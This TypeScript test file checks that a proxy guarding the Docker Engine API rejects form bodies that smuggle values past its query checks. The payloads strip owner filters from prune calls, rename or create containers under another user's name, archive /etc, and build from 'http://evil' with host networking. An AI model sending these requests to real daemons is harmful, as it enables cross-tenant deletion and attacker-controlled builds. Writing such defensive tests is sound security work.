import { http } from '../../support/front-door.ts';
import type { Attempt, Case } from '../corpus/case.ts';
import { attack, each, forwarded, unread } from '../corpus/write.ts';

/** Section C: bodies whose values Go reads before those of the query. */

const FORM = 'application/x-www-form-urlencoded';
const FORM_BODY = unread(415, 'form-body', 'content-type');
const RENAME = 'POST /v1.41/containers/alicec/rename?name=alice-ok';
const OWN = encodeURIComponent('{"label":["gw.owner=alice"]}');

const form = (line: string, body: string, type = FORM): string =>
  http(line, `Content-Type: ${type}`, `Content-Length: ${body.length}`, '', body);

const forms = (pairs: Readonly<Record<string, string>>): Attempt[] =>
  Object.entries(pairs).map(([line, body]) => ({ name: line, bytes: form(line, body) }));

const MULTIPART =
  '--x\r\nContent-Disposition: form-data; name="remote"\r\n\r\nhttp://evil\r\n' +
  '--x\r\nContent-Disposition: form-data; name="t"\r\n\r\nbob/app\r\n' +
  '--x\r\nContent-Disposition: form-data; name="networkmode"\r\n\r\nhost\r\n--x--\r\n';

const note = '415 and not 400 or 403';

export const C_FORMS: readonly Case[] = [
  attack('C001', 'rename with a form', form(RENAME, 'name=bobc2'), FORM_BODY, {
    note,
    danger: { status: 204, afterwards: ['/v1.41/containers/bobc2/json', /"Name":"\/bobc2"/] },
  }),
  attack(
    'C001',
    'every spelling of the type of a form',
    each(
      [
        FORM,
        'Application/X-WWW-Form-URLEncoded',
        `${FORM}; charset=utf-8`,
        `${FORM};`,
        `${FORM}\t;x=y`,
        ` ${FORM}`,
        `${FORM} ; boundary=x`,
        'multipart/form-data; boundary=x',
        'MULTIPART/FORM-DATA',
        'multipart/form-data',
      ],
      (type) => form('POST /v1.41/containers/x/start', 'a=b', type),
    ),
    FORM_BODY,
  ),
  attack(
    'C001',
    'types that are malformed and may be read as a form',
    each(
      [
        `${FORM} ,application/json`,
        `application/json, ${FORM}`,
        'multipart/mixed; boundary=x',
        'application/json\t; x',
        'application',
        `"${FORM}"`,
        `application/json; x=${FORM}`,
        'application/x-www-form-urlencoded x',
        '/',
      ],
      (type) => form('POST /v1.41/containers/x/start', 'a=b', type),
    ),
    unread(415, 'content-type-malformed', 'content-type'),
  ),
  attack(
    'C001',
    'the type of a form without a body',
    each([FORM, 'multipart/form-data'], (type) => http('POST /v1.41/volumes/prune', `Content-Type: ${type}`)),
    FORM_BODY,
  ),
  attack(
    'C001',
    'a form in chunks',
    http(RENAME, `Content-Type: ${FORM}`, 'Transfer-Encoding: chunked', '', 'a\r\nname=bobc2\r\n0\r\n\r\n'),
    FORM_BODY,
  ),
  attack(
    'C001',
    'two types',
    http('POST /v1.41/volumes/prune', 'Content-Type: application/json', `Content-Type: ${FORM}`),
    unread(400, 'header-duplicate', 'content-type'),
  ),
  attack(
    'C001',
    'a form under the name of text stays here',
    form(RENAME, 'name=bobc2', 'text/plain'),
    forwarded(RENAME, 'ContainerRename'),
  ),
  attack(
    'C003',
    'a prune of containers whose filters a form takes away',
    form(`POST /v1.41/containers/prune?filters=${OWN}`, 'filters={}'),
    FORM_BODY,
    { note, danger: { status: 200, answer: /"ContainersDeleted":\["/ } },
  ),
  attack(
    'C003',
    'other prunes',
    forms({
      [`POST /v1.41/volumes/prune?filters=${OWN}`]: 'filters={}',
      [`POST /v1.41/networks/prune?filters=${OWN}`]: 'filters={}',
      [`POST /v1.41/images/prune?filters=${OWN}`]: 'filters={}',
      'POST /v1.41/build/prune': 'all=1',
    }),
    FORM_BODY,
  ),
  attack(
    'C005',
    'a pull of what a form names',
    form('POST /v1.41/images/create?fromImage=allowed/x', 'fromImage=evil/x'),
    FORM_BODY,
    { note },
  ),
  attack(
    'C005',
    'other names in a form',
    forms({
      'POST /v1.41/images/busybox/tag?repo=alice/x': 'repo=bob/x',
      'POST /v1.41/images/x/push?tag=1': 'tag=2',
      'POST /v1.41/commit?container=alicec': 'container=bobc',
      'POST /v1.41/containers/create?name=alicec': 'name=bobc',
      'POST /v1.41/containers/x/kill?signal=TERM': 'signal=KILL',
      'POST /v1.41/build/cancel?id=mine': 'id=theirs',
      'PUT /v1.41/containers/x/archive?path=/data': 'path=/etc',
      'POST /v1.41/swarm/update?version=1': 'rotateManagerToken=1',
    }),
    FORM_BODY,
    { danger: { status: 201, afterwards: ['/v1.41/images/bob/x/json', /"bob\/x:latest"/] } },
  ),
  attack(
    'C007',
    'a build with a form of several parts',
    form('POST /v1.41/build?t=alice/x', MULTIPART, 'multipart/form-data; boundary=x'),
    FORM_BODY,
    { note },
  ),
  attack(
    'C007',
    'a build with a urlencoded form',
    form('POST /v1.41/build?t=alice/x', 'remote=http://evil&t=bob/app&networkmode=host'),
    FORM_BODY,
  ),
  attack(
    'C009',
    'a plugin that a form names',
    form('POST /v1.41/plugins/pull?remote=ok', 'remote=evil'),
    FORM_BODY,
    { note },
  ),
];
